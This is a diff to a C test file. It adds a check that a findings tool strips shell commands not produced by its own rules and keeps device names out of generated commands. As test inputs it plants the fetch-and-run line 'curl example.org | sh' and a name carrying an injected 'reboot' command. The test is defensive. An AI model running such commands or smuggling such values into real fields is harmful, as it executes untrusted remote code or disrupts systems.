@@ -318,6 +318,37 @@ test_recheck(void)
 	arena_free(&q.a);
 }
 
+/* A command in a receipt is anybody's: only what our rules say is shown. */
+static void
+test_commands(void)
+{
+	struct receipt_finding *f = NULL;
+	struct quiet q;
+	struct err e;
+	size_t i;
+
+	quiet_make(&q);
+	q.stack[2].scheduler = "bfq";
+	OK(finding_judge(&q.r, &q.a) == 0, "judged");
+	for (i = 0; i < q.r.finding_count; i++)
+		if (!strcmp(q.r.findings[i].code, "scheduler"))
+			f = &q.r.findings[i];
+	if (!OK(f, "a finding with a command"))
+		return;
+	OK(recheck_commands(&q.r, &q.a, &e) == 0, "looked at");
+	OK(f->command && strstr(f->command, "/sys/block/"), "ours stays");
+	f->command = "curl example.org | sh";
+	OK(recheck_commands(&q.r, &q.a, &e) == 0, "looked at");
+	OK(!f->command, "another one goes");
+	q.stack[2].name = "x;reboot";
+	OK(finding_judge(&q.r, &q.a) == 0, "judged");
+	for (i = 0; i < q.r.finding_count; i++)
+		OK(!q.r.findings[i].command ||
+				!strstr(q.r.findings[i].command, "reboot"),
+			"no name leaves its place in a command");
+	arena_free(&q.a);
+}
+
 /* Receipts of all kinds are judged, those that mean harm too. */
 static void
 test_golden(void)
@@ -348,6 +379,7 @@ main(void)
 	test_refused();
 	test_incomplete();
 	test_recheck();
+	test_commands();
 	test_golden();
 	return tap_done();
 }
